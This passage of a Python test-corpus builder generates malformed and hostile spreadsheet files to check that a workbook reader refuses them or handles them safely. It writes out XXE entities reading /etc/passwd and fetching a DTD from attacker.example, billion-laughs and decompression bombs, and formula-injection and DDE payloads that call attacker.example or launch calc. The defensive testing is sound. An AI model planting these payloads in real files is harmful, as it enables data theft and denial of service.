    "a shared-string length running past the SST record (calamine: an error here, a panic in utils.rs for other lengths found by fuzzing)",
    reason="corrupt-xls",
)
def _xls_bad_sst(p: Path) -> None:
    w = bytearray(biff8([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()]))
    i = w.find(struct.pack("<H", 0x00FC))
    struct.pack_into("<H", w, i + 4 + 8 + 2 * 0, 60000)  # cch of the first string
    p.write_bytes(cfb({"Workbook": bytes(w)}))


@case(
    "xlsb-missing-rels.xlsb",
    "an .xlsb whose workbook relationships part is missing (calamine panics: xlsb/mod.rs:312)",
    reason="missing-part",
)
def _xlsb_no_rels(p: Path) -> None:
    src = xlsb([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()])
    with (
        zipfile.ZipFile(io.BytesIO(src)) as zin,
        zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zout,
    ):
        for info in zin.infolist():
            if info.filename != "xl/_rels/workbook.bin.rels":
                zout.writestr(info.filename, zin.read(info.filename))


@case(
    "word-doc-renamed.xls",
    "a Word 97 .doc (OLE with WordDocument stream) under .xls",
    reason="word",
)
def _doc(p: Path) -> None:
    p.write_bytes(cfb({"WordDocument": b"\xec\xa5" + b"\0" * 100, "1Table": b"\0" * 100}))


@case("ole-garbage.xls", "OLE signature followed by garbage", reason="corrupt-ole")
def _ole_garbage(p: Path) -> None:
    p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 1000)


@case(
    "xls-corner-bomb.xls",
    "a 5 KB .xls with values in A1 and IV65536 (16.7 M-cell extent)",
    reason="too-many-cells",
)
def _xls_bomb(p: Path) -> None:
    p.write_bytes(cfb({"Workbook": biff8([("工作序列表", [(0, 0, 1.0), (65535, 255, 2.0)])])}))


# --------------------------------------------------------------------------- 4. bombs


@case("bomb-ratio.xlsx", "a worksheet padded with 50 MB of spaces (ratio ~1000:1)", reason="ratio")
def _bomb_ratio(p: Path) -> None:
    pad = b" " * (50 * 1024 * 1024)
    xml = _sheet_xml(_master_grid()).encode()
    xml = xml.replace(b"<sheetData>", b"<sheetData>" + pad, 1)
    raw_xlsx(p, xml)


@case(
    "bomb-lying-size.xlsx",
    "a part that declares 1 KB but inflates to 20 MB",
    reason="size-mismatch",
)
def _bomb_lie(p: Path) -> None:
    xml = (
        _sheet_xml(_master_grid())
        .encode()
        .replace(b"<sheetData>", b"<sheetData>" + b" " * (20 * 1024 * 1024), 1)
    )
    raw_xlsx(p, xml)
    data = bytearray(p.read_bytes())
    with zipfile.ZipFile(p) as z:
        infos = {i.filename: i for i in z.infolist()}
    info = infos["xl/worksheets/sheet1.xml"]
    struct.pack_into("<I", data, info.header_offset + 22, 1024)  # local header size
    cd = data.find(b"PK\x01\x02")
    while cd >= 0:
        name_len = struct.unpack_from("<H", data, cd + 28)[0]
        if data[cd + 46 : cd + 46 + name_len] == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", data, cd + 24, 1024)  # central directory size
            break
        cd = data.find(b"PK\x01\x02", cd + 4)
    p.write_bytes(bytes(data))


@case("bomb-entries.xlsx", "a package with 10,001 parts", reason="too-many-entries")
def _bomb_entries(p: Path) -> None:
    raw_xlsx(
        p, _sheet_xml(_master_grid()), extra={f"xl/junk/{i}.xml": b"<a/>" for i in range(10_001)}
    )


@case(
    "bomb-corner-cells.xlsx",
    "1 KB .xlsx with values in A1 and XFD1048576 (calamine would allocate 512 GB and abort)",
    reason="too-many-cells",
)
def _bomb_corner(p: Path) -> None:
    raw_xlsx(
        p,
        f'<?xml version="1.0"?><worksheet xmlns="{_SHEET_NS}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData></worksheet>',
    )


@case(
    "bomb-corner-no-refs.xlsx",
    "row r=1048576 with 16,384 cells that carry no r attribute",
    reason="too-many-cells",
)
def _bomb_corner_nor(p: Path) -> None:
    cells = "<c><v>1</v></c>" * 16384
    raw_xlsx(
        p,
        f'<?xml version="1.0"?><worksheet xmlns="{_SHEET_NS}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        f'<row r="1048576">{cells}</row></sheetData></worksheet>',
    )


@case(
    "bomb-ods-repeat.ods",
    "an .ods cell repeated 16,384 columns x 1,048,575 rows",
    reason="too-many-cells",
)
def _bomb_ods(p: Path) -> None:
    p.write_bytes(
        ods(
            [("工作序列表", [master_header()])],
            extra_rows='<table:table-row table:number-rows-repeated="1048575"><table:table-cell '
            'table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row>',
        )
    )


@case("bomb-xlsb-corner.xlsb", "an .xlsb with values in A1 and XFD1048576", reason="too-many-cells")
def _bomb_xlsb(p: Path) -> None:
    p.write_bytes(xlsb([("工作序列表", [(0, 0, 1.0), (1048575, 16383, 2.0)])]))


# --------------------------------------------------------------------------- 5. hostile XML

_XXE = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@case(
    "xxe-sheet.xlsx",
    "worksheet with an external entity reading /etc/passwd into a cell",
    reason="doctype",
)
def _xxe(p: Path) -> None:
    raw_xlsx(
        p,
        f'<?xml version="1.0" encoding="UTF-8"?>{_XXE}<worksheet xmlns="{_SHEET_NS}"><sheetData><row r="1">'
        '<c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>',
    )


@case(
    "xxe-shared-strings.xlsx",
    "billion-laughs entity expansion in sharedStrings.xml",
    reason="doctype",
)
def _laughs(p: Path) -> None:
    ents = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    sst = f'<?xml version="1.0"?><!DOCTYPE sst [{ents}]><sst xmlns="{_SHEET_NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    raw_xlsx(
        p,
        f'<?xml version="1.0"?><worksheet xmlns="{_SHEET_NS}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>',
        extra={"xl/sharedStrings.xml": sst},
    )


@case("xxe-utf16.xlsx", "DOCTYPE hidden in a UTF-16 encoded worksheet part", reason="doctype")
def _xxe16(p: Path) -> None:
    xml = f'<?xml version="1.0" encoding="UTF-16"?>{_XXE}<worksheet xmlns="{_SHEET_NS}"><sheetData/></worksheet>'
    raw_xlsx(p, codecs_bom16() + xml.encode("utf-16-le"))


def codecs_bom16() -> bytes:
    return b"\xff\xfe"


@case("xxe-utf7.xlsx", "DOCTYPE hidden in a UTF-7 encoded part (+ADw-!DOCTYPE)", reason="doctype")
def _xxe7(p: Path) -> None:
    body = f'{_XXE}<worksheet xmlns="{_SHEET_NS}"><sheetData/></worksheet>'.encode("utf-7")
    raw_xlsx(p, b'<?xml version="1.0" encoding="UTF-7"?>' + body)


def _with_doctype(xml: bytes, doctype: bytes) -> bytes:
    """Put ``doctype`` right after the XML declaration (or first, when there is none)."""
    if xml.startswith(b"<?xml"):
        end = xml.index(b"?>") + 2
        return xml[:end] + doctype + xml[end:]
    return doctype + xml


@case("xxe-content-types.xlsx", "external entity in [Content_Types].xml", reason="doctype")
def _xxe_ct(p: Path) -> None:
    def change(n: str, d: bytes) -> bytes:
        if n == "[Content_Types].xml":
            return _with_doctype(d, _XXE.replace("worksheet", "Types").encode())
        return d

    _patched(p, change)


@case(
    "xxe-rels.xlsx",
    "parameter entity (external DTD) in xl/_rels/workbook.xml.rels",
    reason="doctype",
)
def _xxe_rels(p: Path) -> None:
    def change(n: str, d: bytes) -> bytes:
        if n == "xl/_rels/workbook.xml.rels":
            return _with_doctype(
                d, b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>'
            )
        return d

    _patched(p, change)


@case(
    "xml-unknown-encoding.xlsx",
    "a part declaring an encoding no codec knows",
    reason="xml-encoding",
)
def _xml_enc(p: Path) -> None:
    raw_xlsx(
        p,
        f'<?xml version="1.0" encoding="x-gendan-42"?><worksheet xmlns="{_SHEET_NS}"><sheetData/></worksheet>',
    )


@case(
    "xml-long-prolog.xlsx",
    "a 100 KB comment before the root element (outruns a naive scan)",
    reason="xml-prolog",
)
def _xml_prolog(p: Path) -> None:
    raw_xlsx(
        p,
        f'<?xml version="1.0"?><!--{"x" * 100_000}--><worksheet xmlns="{_SHEET_NS}"><sheetData/></worksheet>',
    )


# --------------------------------------------------------------------------- 6. odd but valid


@case(
    "master-ok.xlsx",
    "a clean master workbook (title row, header, 3 orders, reference sheets)",
    fmt="xlsx",
)
def _ok(p: Path) -> None:
    _base_xlsx(p)


@case("master-no-title.xlsx", "header in row 1, no title row", fmt="xlsx")
def _no_title(p: Path) -> None:
    _write_openpyxl(p, title_rows=0)


@case(
    "no-master-sheet.xlsx",
    "only 客户/产品/公司 and a notes sheet; no sheet with master headers",
    fmt="xlsx",
    cli_exit={2},
)
def _no_master(p: Path) -> None:
    _write_openpyxl(
        p,
        rows=[["跟单备忘"], ["下周一寄单"]],
        header=["备注 Notes"],
        title_rows=0,
        master_name="Sheet1",
    )


@case(
    "master-renamed-sheet.xlsx",
    "the master on a sheet named '2026订单' (found by its headers)",
    fmt="xlsx",
)
def _renamed(p: Path) -> None:
    _write_openpyxl(p, master_name="2026订单")


@case(
    "no-header-row.xlsx",
    "a 工作序列表 sheet holding numbers only, no header row",
    fmt="xlsx",
    cli_exit={2},
)
def _no_header(p: Path) -> None:
    _write_openpyxl(p, rows=[[1, 2, 3], [4, 5, 6]], header=[7, 8, 9])


@case("only-header.xlsx", "header row and no orders", fmt="xlsx", cli_exit={0})
def _only_header(p: Path) -> None:
    _write_openpyxl(p, rows=[])


@case(
    "error-values.xlsx",
    "#N/A, #VALUE!, #REF!, #DIV/0! in data cells (stored as error cells)",
    fmt="xlsx",
    notes=("error-values",),
)
def _errors(p: Path) -> None:
    keys = master_keys()
    rows = master_rows()
    rows[0][keys.index("amount")] = "#N/A"
    rows[1][keys.index("contract_date")] = "#VALUE!"
    rows[2][keys.index("cartons")] = "#REF!"
    rows[2][keys.index("customer")] = "#DIV/0!"
    _write_openpyxl(p, rows=rows)


@case(
    "error-values-formulas.xlsx",
    "formulas whose cached results are errors (xlsxwriter)",
    fmt="xlsx",
    notes=("error-values",),
)
def _errors_f(p: Path) -> None:
    def tweak(wb: Any, ws: Any, fmt: Any) -> None:
        keys = master_keys()
        ws.write_formula(2, keys.index("amount"), "=1/0", None, "#DIV/0!")
        ws.write_formula(3, keys.index("amount"), '=VLOOKUP("x",A1:A2,2,0)', None, "#N/A")

    _write_xlsxwriter(p, tweak)


@case(
    "merged-cells.xlsx",
    "merged title, a merged customer over two orders, merged header cells",
    fmt="xlsx",
)
def _merged(p: Path) -> None:
    def tweak(wb: Any, ws: Any) -> None:
        keys = master_keys()
        c = _col(keys.index("customer") + 1)
        ws.merge_cells("A1:H1")
        ws.merge_cells(f"{c}3:{c}4")
        r = _col(keys.index("remarks") + 1)
        ws.merge_cells(f"{r}2:{_col(keys.index('remarks') + 2)}2")

    _write_openpyxl(p, tweak=tweak)


@case(
    "hidden-rows-cols.xlsx",
    "a hidden order row, a hidden column and a hidden reference sheet",
    fmt="xlsx",
)
def _hidden(p: Path) -> None:
    def tweak(wb: Any, ws: Any) -> None:
        ws.row_dimensions[4].hidden = True
        ws.column_dimensions["D"].hidden = True
        wb["公司"].sheet_state = "hidden"

    _write_openpyxl(p, tweak=tweak)


@case(
    "long-strings.xlsx",
    "32,767-character remarks and contract number (Excel's cell maximum)",
    fmt="xlsx",
)
def _long(p: Path) -> None:
    keys = master_keys()
    rows = master_rows()
    rows[0][keys.index("remarks")] = ("备注" * 16384)[:32767]
    rows[1][keys.index("contract_no")] = "S" * 32767
    _write_openpyxl(p, rows=rows)


@case(
    "over-long-string.xlsx",
    "a 100,000-character string (over Excel's limit; written raw)",
    fmt="xlsx",
)
def _over_long(p: Path) -> None:
    grid = _master_grid()
    grid[2][master_keys().index("remarks")] = "长" * 100_000
    raw_xlsx(p, _sheet_xml(grid))


@case(
    "huge-negative-numbers.xlsx",
    "1e308, -1e308, 5e-324, -0.0, negative cartons, 1e20 amount",
    fmt="xlsx",
)
def _huge(p: Path) -> None:
    keys = master_keys()
    rows = master_rows()
    rows[0][keys.index("cartons")] = -5
    rows[0][keys.index("amount")] = 1e308
    rows[1][keys.index("unit_price")] = -1e308
    rows[1][keys.index("net_weight_kg")] = 5e-324
    rows[2][keys.index("cartons")] = 1e20
    rows[2][keys.index("received_amount")] = -0.0
    rows[2][keys.index("temperature_c")] = 9.999999999999999e307
    _write_openpyxl(p, rows=rows)


@case(
    "nan-inf-raw.xlsx",
    "<v>NaN</v>, <v>INF</v> and <v>abc</v> in numeric cells (no writer makes these)",
    fmt="xlsx",
)
def _nan(p: Path) -> None:
    grid = _master_grid()
    keys = master_keys()
    grid[2][keys.index("amount")] = RawV("NaN")
    grid[3][keys.index("amount")] = RawV("INF")
    grid[4][keys.index("cartons")] = RawV("abc")
    raw_xlsx(p, _sheet_xml(grid))


@case(
    "dates-out-of-range.xlsx",
    "pre-1900 text dates, serial -1, serial 3,000,000, 1900-02-29 in date columns",
    fmt="xlsx",
)
def _dates(p: Path) -> None:
    keys = master_keys()
    rows = master_rows()
    rows[0][keys.index("contract_date")] = "1899-12-31"
    rows[0][keys.index("etd")] = "1850年5月1日"
    rows[1][keys.index("contract_date")] = -1
    rows[1][keys.index("bl_date")] = 3_000_000
    rows[2][keys.index("contract_date")] = 60  # Excel's phantom 1900-02-29
    rows[2][keys.index("etd")] = dt.datetime(1900, 1, 1)

    def tweak(wb: Any, ws: Any) -> None:
        for k in ("contract_date", "etd", "bl_date"):
            for r in range(3, 6):
                ws.cell(row=r, column=keys.index(k) + 1).number_format = "yyyy-mm-dd"

    _write_openpyxl(p, rows=rows, tweak=tweak)


@case(
    "formulas-cached.xlsx",
    "amount and weights as formulas with cached values (as Excel saves)",
    fmt="xlsx",
)
def _f_cached(p: Path) -> None:
    def tweak(wb: Any, ws: Any, fmt: Any) -> None:
        keys = master_keys()
        a, c, u = keys.index("amount"), keys.index("cartons"), keys.index("unit_price")
        for i, r in enumerate(master_rows()):
            row = 2 + i
            ws.write_formula(
                row, a, f"={_col(c + 1)}{row + 1}*{_col(u + 1)}{row + 1}", None, r[c] * r[u]
            )

    _write_xlsxwriter(p, tweak)


@case(
    "formulas-no-cache.xlsx",
    "amount as formulas without cached values (written by openpyxl)",
    fmt="xlsx",
    notes=("formulas-without-values",),
)
def _f_nocache(p: Path) -> None:
    def tweak(wb: Any, ws: Any) -> None:
        keys = master_keys()
        a, c, u = keys.index("amount"), keys.index("cartons"), keys.index("unit_price")
        for row in range(3, 6):
            ws.cell(row=row, column=a + 1).value = f"={_col(c + 1)}{row}*{_col(u + 1)}{row}"

    _write_openpyxl(p, tweak=tweak)


@case(
    "formulas-only-row.xlsx",
    "an order row whose every cell is a formula without a cached value",
    fmt="xlsx",
    notes=("formulas-without-values",),
)
def _f_only(p: Path) -> None:
    def tweak(wb: Any, ws: Any) -> None:
        for col in range(1, len(master_keys()) + 1):
            ws.cell(row=6, column=col).value = f"={_col(col)}3"

    _write_openpyxl(p, tweak=tweak)


@case(
    "shared-formulas-no-cache.xlsx",
    'shared formulas (<f t="shared"/>) without <v>',
    fmt="xlsx",
    notes=("formulas-without-values",),
)
def _f_shared(p: Path) -> None:
    grid = _master_grid()
    xml = _sheet_xml(grid)
    a = _col(master_keys().index("amount") + 1)
    for row, si in (
        (3, '<f t="shared" ref="{a}3:{a}5" si="0">H3*Q3</f>'),
        (4, '<f t="shared" si="0"/>'),
        (5, '<f t="shared" si="0"/>'),
    ):
        start = xml.index(f'<c r="{a}{row}">')
        end = xml.index("</c>", start) + 4
        xml = xml[:start] + f'<c r="{a}{row}">{si.format(a=a)}</c>' + xml[end:]
    raw_xlsx(p, xml)


@case(
    "rich-text-shared-strings.xlsx",
    "customer and remarks as rich text runs (bold/colour) in sharedStrings",
    fmt="xlsx",
)
def _rich(p: Path) -> None:
    def tweak(wb: Any, ws: Any, fmt: Any) -> None:
        keys = master_keys()
        bold = wb.add_format({"bold": True})
        red = wb.add_format({"color": "red"})
        ws.write_rich_string(2, keys.index("customer"), bold, "FRESH", red, "MART")
        ws.write_rich_string(3, keys.index("remarks"), "注意：", red, "先收余款", " 再放单")

    _write_xlsxwriter(p, tweak)


@case(
    "listobject-master.xlsx",
    "the master as an Excel table (ListObject) with a totals row",
    fmt="xlsx",
)
def _table(p: Path) -> None:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(p), {"default_date_format": "yyyy-mm-dd"})
    ws = wb.add_worksheet("工作序列表")
    header = master_header()
    rows = master_rows()
    ws.write(0, 0, TITLE)
    ws.add_table(
        1,
        0,
        1 + len(rows) + 1,
        len(header) - 1,
        {
            "data": rows,
            "columns": [{"header": h} for h in header],
            "name": "Orders",
            "total_row": True,
        },
    )
    _xw_refs(wb)
    wb.close()


@case(
    "date1904.xlsx",
    "the 1904 date system (Mac Excel) with real dates",
    fmt="xlsx",
    notes=("date1904",),
)
def _d1904(p: Path) -> None:
    _write_xlsxwriter(p, None, {"date_1904": True})


@case(
    "macro-enabled.xlsm",
    "an .xlsm with a VBA project (ms-ovba) and the master sheet",
    fmt="xlsm",
    notes=("macros",),
)
def _xlsm(p: Path) -> None:
    def tweak(wb: Any, ws: Any, fmt: Any) -> None:
        wb.add_vba_project(str(vba_project_bin()))

    _write_xlsxwriter(p, tweak)


@case(
    "prefixed-namespace.xlsx",
    "every worksheet element with an x: prefix (OpenXML SDK style)",
    fmt="xlsx",
)
def _prefixed(p: Path) -> None:
    raw_xlsx(p, _sheet_xml(_master_grid(), prefix="x"))


@case(
    "cells-without-refs.xlsx",
    "rows and cells without r attributes (allowed by the standard)",
    fmt="xlsx",
)
def _no_refs(p: Path) -> None:
    raw_xlsx(p, _sheet_xml(_master_grid(), with_r=False))


@case(
    "utf16-sheet.xlsx",
    "a clean worksheet part in UTF-16 (valid XML, but calamine reads it as empty)",
    reason="xml-encoding",
)
def _utf16_ok(p: Path) -> None:
    xml = _sheet_xml(_master_grid()).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    raw_xlsx(p, b"\xff\xfe" + xml.encode("utf-16-le"))


@case(
    "gbk-sheet.xlsx",
    "a worksheet part declared and encoded as GBK (calamine: XmlError)",
    reason="xml-encoding",
)
def _gbk(p: Path) -> None:
    xml = _sheet_xml(_master_grid()).replace('encoding="UTF-8"', 'encoding="GBK"')
    raw_xlsx(p, xml.encode("gbk"))


@case("no-content-types.xlsx", "a package missing [Content_Types].xml (some exporters)", fmt="xlsx")
def _no_ct(p: Path) -> None:
    _patched(p, lambda n, d: None if n == "[Content_Types].xml" else d)


@case(
    "formula-injection.xlsx",
    "text cells starting with = + - @ and DDE payloads (must stay text in every output)",
    fmt="xlsx",
)
def _inject(p: Path) -> None:
    keys = master_keys()
    rows = master_rows()
    rows[0][keys.index("contract_no")] = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    rows[0][keys.index("customer")] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[1][keys.index("remarks")] = "-2+3+cmd|' /C calc'!A0"
    rows[1][keys.index("vessel_voyage")] = "+1+1"
    rows[2][keys.index("bl_no")] = "\t=1+1"
    rows[2][keys.index("invoice_no")] = "\r=1+1"

    def tweak(wb: Any, ws: Any) -> None:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type == "f":
                    cell.data_type = "s"  # stored as text, exactly what a customer's file holds

    _write_openpyxl(p, rows=rows, tweak=tweak)


@case("master.ods", "the master as a minimal OpenDocument spreadsheet", fmt="ods", notes=("ods",))
def _ods(p: Path) -> None:
    p.write_bytes(ods(_legacy_sheets()))


@case("master.xlsb", "the master as a minimal binary .xlsb", fmt="xlsb", notes=("xlsb",))
def _xlsb(p: Path) -> None:
    p.write_bytes(xlsb([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()]))


@case(
    "large-20k-rows.xlsx",
    "20,000 orders (speed: must finish well under 10 s)",
    fmt="xlsx",
    tags=("slow",),
)
def _large(p: Path) -> None:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(p), {"constant_memory": True, "default_date_format": "yyyy-mm-dd"})
    ws = wb.add_worksheet("工作序列表")
    ws.write_row(0, 0, master_header())
    keys = master_keys()
    for i in range(20_000):
        o = _order(i % 500)
        o["contract_no"] = f"SC-L-{i:06d}"
        o["bl_no"] = f"BL{i:08d}"
        o["invoice_no"] = f"IV{i:08d}"
        for c, k in enumerate(keys):
            v = o.get(k)
            if isinstance(v, dt.date):
                ws.write_datetime(i + 1, c, dt.datetime.combine(v, dt.time()))
            elif v is not None:
                ws.write(i + 1, c, v)
    _xw_refs(wb)
    wb.close()


# --------------------------------------------------------------------------- xlsxwriter helpers


def _xw_refs(wb: Any) -> None:
    for name, data in reference_sheets().items():
        s = wb.add_worksheet(name)
        for r, row in enumerate(data):
            for c, v in enumerate(row):
                if v is not None:
                    s.write_string(r, c, v) if isinstance(v, str) else s.write(r, c, v)


def _write_xlsxwriter(
    p: Path, tweak: Callable[[Any, Any, Any], None] | None, options: dict[str, Any] | None = None
) -> None:
    """The base workbook written by xlsxwriter (strings never become formulas)."""
    import xlsxwriter

    opts = {"strings_to_formulas": False, "default_date_format": "yyyy-mm-dd"}
    opts.update(options or {})
    wb = xlsxwriter.Workbook(str(p), opts)
    ws = wb.add_worksheet("工作序列表")
    date_fmt = wb.add_format({"num_format": "yyyy-mm-dd"})
    ws.write_string(0, 0, TITLE)
    ws.write_row(1, 0, master_header())
    for i, row in enumerate(master_rows()):
        for c, v in enumerate(row):
            if isinstance(v, dt.date):
                ws.write_datetime(2 + i, c, dt.datetime.combine(v, dt.time()), date_fmt)
            elif isinstance(v, str):
                ws.write_string(2 + i, c, v)
            elif v is not None:
                ws.write(2 + i, c, v)
    if tweak:
        tweak(wb, ws, date_fmt)
    _xw_refs(wb)
    wb.close()


_VBA_CACHE: dict[str, bytes] = {}


def vba_project_bin() -> Path:
    """A real vbaProject.bin (one module, ``Sub Hello``), built the way the add-in's is
    (``gendan.addin.build.build_vba_project``: ms-ovba's steps without its CLI, which appends to
    files inside its own installed package on every run)."""
    from gendan.addin.build import build_vba_project

    out = Path(tempfile.gettempdir()) / f"gendan-vba-{os.getpid()}" / "vbaProject.bin"
    if out.exists():
        return out
    src = out.parent / "src"
    src.mkdir(parents=True, exist_ok=True)
    (src / "Module1.bas").write_text(
        'Attribute VB_Name = "Module1"\r\nSub Hello()\r\n    MsgBox "gendan"\r\nEnd Sub\r\n'
    )
    out.write_bytes(build_vba_project(src))
    return out


# --------------------------------------------------------------------------- round-trip workbook

PNG_1x1 = (
    b"\x89PNG\r\n\x1a\n"
    + struct.pack(">I", 13)
    + b"IHDR"
    + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    + struct.pack(">I", zlib.crc32(b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)))
    + struct.pack(">I", 12)
    + b"IDAT"
    + zlib.compress(b"\x00\xff\x00\x00")
    + struct.pack(">I", zlib.crc32(b"IDAT" + zlib.compress(b"\x00\xff\x00\x00")))
    + struct.pack(">I", 0)
    + b"IEND"
    + struct.pack(">I", zlib.crc32(b"IEND"))
)

CUSTOM_UI = (
    '<?xml version="1.0" encoding="UTF-8"?><customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui">'
    '<ribbon><tabs><tab id="gendanTab" label="跟单"><group id="g" label="Check">'
    '<button id="b" label="Check" onAction="Hello"/></group></tab></tabs></ribbon></customUI>'
)


def build_roundtrip_xlsm(path: Path, with_vba: bool = True, with_custom_ui: bool = True) -> Path:
    """The round-trip workbook: chart, image, data validation, conditional format, defined
    name, comment, VBA project and a customUI ribbon part, around the master sheet."""
    import xlsxwriter

    tmp = path.with_suffix(".tmp" + path.suffix)
    wb = xlsxwriter.Workbook(str(tmp), {"strings_to_formulas": False})
    ws = wb.add_worksheet("工作序列表")
    header = master_header()
    ws.write_row(0, 0, header)
    keys = master_keys()
    for i, row in enumerate(master_rows()):
        for c, v in enumerate(row):
            if isinstance(v, dt.date):
                ws.write_datetime(
                    1 + i,
                    c,
                    dt.datetime.combine(v, dt.time()),
                    wb.add_format({"num_format": "yyyy-mm-dd"}),
                )
            elif v is not None:
                ws.write(1 + i, c, v)
    ct = _col(keys.index("container_type") + 1)
    ws.data_validation(f"{ct}2:{ct}100", {"validate": "list", "source": ["20RF", "40RH"]})
    amt = _col(keys.index("amount") + 1)
    ws.conditional_format(
        f"{amt}2:{amt}100",
        {
            "type": "cell",
            "criteria": ">",
            "value": 100000,
            "format": wb.add_format({"bg_color": "#FFC7CE"}),
        },
    )
    ws.write_comment("A2", "首单 first order")
    wb.define_name(
        "Ports",
        f"='工作序列表'!${_col(keys.index('port_of_loading') + 1)}$2:${_col(keys.index('port_of_loading') + 1)}$4",
    )
    chart = wb.add_chart({"type": "column"})
    chart.add_series(
        {
            "categories": "='工作序列表'!$A$2:$A$4",
            "values": f"='工作序列表'!${amt}$2:${amt}$4",
            "name": "Amount",
        }
    )
    ws.insert_chart("B8", chart)
    ws.insert_image("H8", "logo.png", {"image_data": io.BytesIO(PNG_1x1)})
    if with_vba:
        wb.add_vba_project(str(vba_project_bin()))
    wb.close()
    if not with_custom_ui:
        tmp.replace(path)
        return path

    def change(n: str, d: bytes) -> bytes:
        if n == "_rels/.rels":
            return d.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdUI" Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility" '
                b'Target="customUI/customUI14.xml"/></Relationships>',
            )
        return d

    _rewrite_zip(tmp, path, change, {"customUI/customUI14.xml": CUSTOM_UI.encode()})
    tmp.unlink()
    return path


# --------------------------------------------------------------------------- LibreOffice copies


def _build_soffice(out: Path, only: set[str] | None) -> list[Case]:
    """.xls/.ods/.xlsx files as LibreOffice writes them (only when soffice is installed)."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    wanted = {"lo-master.xls": "xls", "lo-master.ods": "ods", "lo-master.xlsx": "xlsx"}
    if only is not None:
        wanted = {k: v for k, v in wanted.items() if k in only}
    if not soffice or not wanted:
        return []
    built = []
    with tempfile.TemporaryDirectory() as td:
        src = Path(td) / "lo-master.xlsx"
        _base_xlsx(src)
        profile = Path(td) / "profile"
        for name, ext in wanted.items():
            conv = Path(td) / "conv"
            conv.mkdir(exist_ok=True)
            target = {
                "xls": "xls:MS Excel 97",
                "ods": "ods",
                "xlsx": "xlsx:Calc MS Excel 2007 XML",
            }[ext]
            try:
                subprocess.run(
                    [
                        soffice,
                        f"-env:UserInstallation=file://{profile}",
                        "--headless",
                        "--convert-to",
                        target,
                        "--outdir",
                        str(conv),
                        str(src),
                    ],
                    check=True,
                    capture_output=True,
                    timeout=180,
                )
            except (subprocess.SubprocessError, OSError):
                continue
            made = conv / f"lo-master.{ext}"
            if not made.exists():
                continue
            shutil.move(str(made), out / name)
            notes = {"xls": ("legacy-xls",), "ods": ("ods",), "xlsx": ()}[ext]
            built.append(
                Case(
                    name,
                    f"the master saved by LibreOffice as .{ext}",
                    None,
                    ext,
                    notes,
                    frozenset({0, 1}),
                    ("soffice",),
                )
            )
    return built


_FUZZ_WORKER = r"""
import sys
sys.path.insert(0, sys.argv[1])
from gendan.read.reader import read_workbook
from gendan.model.errors import GendanError
for line in sys.stdin:
    p = line.strip()
    print("START", p, flush=True)
    try:
        read_workbook(p)
    except GendanError:
        pass
    except BaseException as e:
        print("ODD", p, type(e).__name__, str(e)[:100], flush=True)
"""


def fuzz_reader(dest: Path, seed: int, per_file: int) -> list[str]:
    """Mutate the valid corpus files (1-6 random bytes) and read each through the gate and
    calamine in a child process, so that a panic or an abort is reported, not suffered.

    Returns one line per problem: ``ODD path exception`` (a non-GendanError escaped
    ``read_workbook``) or ``ABORT path rc`` (the child process died).  Used to find the
    calamine crashes the gate now prevents (docs/robustness.md); not run by the tests.
    """
    import random

    bases = ["master-ok.xlsx", "legacy.xls", "master.xlsb", "master.ods", "macro-enabled.xlsm"]
    build(dest, only=set(bases))
    rng = random.Random(seed)
    files: list[Path] = []
    for name in bases:
        data = (dest / name).read_bytes()
        for i in range(per_file):
            b = bytearray(data)
            for _ in range(rng.randint(1, 6)):
                b[rng.randrange(len(b))] = rng.randrange(256)
            f = dest / f"m{i}-{name}"
            f.write_bytes(bytes(b))
            files.append(f)
    problems: list[str] = []
    i = 0
    while i < len(files):
        cp = subprocess.run(
            [sys.executable, "-c", _FUZZ_WORKER, str(REPO)],
            input="\n".join(str(f) for f in files[i:]),
            capture_output=True,
            text=True,
            env={"RUST_BACKTRACE": "0", "PATH": os.environ.get("PATH", "/usr/bin:/bin")},
        )
        lines = cp.stdout.splitlines()
        problems += [ln for ln in lines if ln.startswith("ODD")]
        if cp.returncode == 0:
            break
        last = [ln for ln in lines if ln.startswith("START")][-1].split(" ", 1)[1]
        problems.append(f"ABORT {last} {cp.returncode}")
        i = files.index(Path(last)) + 1
    return problems


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    if args[:1] == ["--fuzz-reader"]:
        seed, per_file = (int(a) for a in args[1:3]) if len(args) >= 3 else (1, 200)
        with tempfile.TemporaryDirectory() as td:
            problems = fuzz_reader(Path(td), seed, per_file)
        print("\n".join(problems) or "no problem found")
        return 1 if problems else 0
    dest = Path(args[0]) if args else Path("corpus-out")
    for c in build(dest):
        what = f"refused ({c.reason})" if c.refused else f"read as {c.fmt}"
        print(f"{c.name:40} {what:32} {c.about}")
    return 0


_BUILT: dict[str, tuple[Path, list[Case]]] = {}


